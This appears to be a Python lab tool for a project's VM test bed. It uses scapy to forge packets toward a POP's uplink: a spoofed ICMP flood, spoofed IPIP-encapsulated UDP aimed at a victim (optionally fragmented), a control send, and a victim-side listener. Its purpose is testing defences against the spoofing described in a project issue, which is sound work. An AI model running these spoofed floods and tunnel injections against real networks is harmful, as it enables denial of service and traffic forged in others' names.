"""An attacker next to a POP, for the VM lab: forged frames onto a POP's uplink, and the victim.

Run inside the upstream router's namespace (``ip netns exec ae-upstream``) to send, or inside the
players' namespace (``ae-client``) to listen as the victim, with the project's venv (it has
scapy). Frames are built with scapy once and sent through an AF_PACKET socket on the link to
the POP, addressed to the POP's MAC (the upstream's neighbour entry, else ARP), so they reach
exactly that POP whatever the upstream's routes say. Every command prints one JSON object.

Everything is bounded (a packet count and a rate) and stays in the lab: the namespaces have no
path off this machine.

  flood   N ICMP echoes "from" SOURCE to a service address (issue 12 section 2: a spoofed flood
          in the name of the POP's BGP neighbour)
  ipip    N IPIP packets "from" a backend's tunnel address to the POP's tunnel address, each
          carrying a UDP datagram to a victim; --fragment splits each outer packet in two
          (issue 12 section 3: the kernel's ipip device must not reassemble and forward them)
  direct  the inner datagram itself, routed by this namespace (a control: what a victim gets when
          a POP lets the packet through)
  listen  count the UDP datagrams that reach ADDRESS:PORT for a while (the victim's view)
"""

from __future__ import annotations

import argparse
import json
import socket
import sys
import time

from scapy.layers.inet import ICMP, IP, UDP, fragment
from scapy.layers.l2 import Ether, getmacbyip
from scapy.sendrecv import send
from scapy.arch import get_if_hwaddr


def neighbour_mac(address: str) -> str:
    with open("/proc/net/arp", encoding="ascii") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                return fields[3]
    mac = getmacbyip(address)
    if not mac:
        raise SystemExit("no MAC address for %s (is the POP's uplink up?)" % address)
    return mac


def send_frames(iface: str, frames: list[bytes], count: int, rate: float) -> float:
    """Send ``count`` rounds of ``frames`` at ``rate`` rounds per second; return the seconds taken."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    started = time.monotonic()
    for number in range(count):
        for frame in frames:
            sock.send(frame)
        # Pace against the start, not per packet, so a slow send does not stretch the flood.
        delay = started + (number + 1) / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    return time.monotonic() - started


def ether_to(args) -> Ether:
    return Ether(src=get_if_hwaddr(args.iface), dst=neighbour_mac(args.pop))


def cmd_flood(args) -> dict:
    frame = ether_to(args) / IP(src=args.source, dst=args.target) / ICMP(id=0x4145, seq=1) / (b"x" * 32)
    seconds = send_frames(args.iface, [bytes(frame)], args.count, args.rate)
    return {"sent": args.count, "seconds": round(seconds, 2), "source": args.source, "target": args.target}


def cmd_ipip(args) -> dict:
    inner = IP(src=args.inner_source, dst=args.victim, ttl=64) / UDP(sport=args.inner_port, dport=args.port) / (
        b"spoofed ipip " + b"x" * args.payload)
    outer = IP(src=args.outer_source, dst=args.outer_dest, proto=4, id=0x4145) / inner
    link = ether_to(args)
    packets = fragment(outer, fragsize=args.fragsize) if args.fragment else [outer]
    frames = [bytes(link / packet) for packet in packets]
    seconds = send_frames(args.iface, frames, args.count, args.rate)
    return {"sent": args.count, "frames_per_packet": len(frames), "fragmented": args.fragment,
            "seconds": round(seconds, 2), "outer": "%s > %s" % (args.outer_source, args.outer_dest),
            "inner": "%s > %s:%d" % (args.inner_source, args.victim, args.port)}


def cmd_direct(args) -> dict:
    packet = IP(src=args.source, dst=args.victim) / UDP(sport=args.source_port, dport=args.port) / b"control"
    send(packet, count=args.count, verbose=False)
    return {"sent": args.count, "datagram": "%s:%d > %s:%d" % (args.source, args.source_port, args.victim, args.port)}


def cmd_listen(args) -> dict:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((args.address, args.port))
    received, sources = 0, set()
    deadline = time.monotonic() + args.duration
    while (left := deadline - time.monotonic()) > 0:
        sock.settimeout(left)
        try:
            dummy, peer = sock.recvfrom(4096)
        except socket.timeout:
            break
        received += 1
        sources.add(peer[0])
    return {"received": received, "sources": sorted(sources), "address": "%s:%d" % (args.address, args.port)}


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    commands = parser.add_subparsers(dest="command", required=True)

    def sender(name: str, help_text: str) -> argparse.ArgumentParser:
        command = commands.add_parser(name, help=help_text)
        command.add_argument("--iface", required=True, help="the link to the POP, in this namespace")
        command.add_argument("--pop", required=True, help="the POP's address on that link (for its MAC)")
        command.add_argument("--count", type=int, required=True)
        command.add_argument("--rate", type=float, default=100.0, help="packets (or fragment pairs) per second")
        return command

    flood = sender("flood", "ICMP echoes in SOURCE's name to a service address")
    flood.add_argument("--source", required=True)
    flood.add_argument("--target", required=True)

    ipip = sender("ipip", "IPIP in a backend's name carrying UDP to a victim")
    ipip.add_argument("--outer-source", required=True)
    ipip.add_argument("--outer-dest", required=True)
    ipip.add_argument("--inner-source", required=True)
    ipip.add_argument("--inner-port", type=int, default=27015)
    ipip.add_argument("--victim", required=True)
    ipip.add_argument("--port", type=int, required=True)
    ipip.add_argument("--payload", type=int, default=600, help="bytes of padding in the inner datagram")
    ipip.add_argument("--fragment", action="store_true", help="send each outer packet as fragments")
    ipip.add_argument("--fragsize", type=int, default=400)

    direct = commands.add_parser("direct", help="UDP from SOURCE to VICTIM:PORT, routed here")
    direct.add_argument("--source", required=True)
    direct.add_argument("--source-port", type=int, default=27015)
    direct.add_argument("--victim", required=True)
    direct.add_argument("--port", type=int, required=True)
    direct.add_argument("--count", type=int, default=5)

    listen = commands.add_parser("listen", help="count datagrams to ADDRESS:PORT")
    listen.add_argument("--address", required=True)
    listen.add_argument("--port", type=int, required=True)
    listen.add_argument("--duration", type=float, required=True)

    args = parser.parse_args(argv)
    if getattr(args, "count", 1) > 20000 or getattr(args, "rate", 1) > 5000:
        parser.error("--count is at most 20000 and --rate at most 5000: the lab's floods are bounded")
    result = {"flood": cmd_flood, "ipip": cmd_ipip, "direct": cmd_direct, "listen": cmd_listen}[args.command](args)
    json.dump(result, sys.stdout)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main())
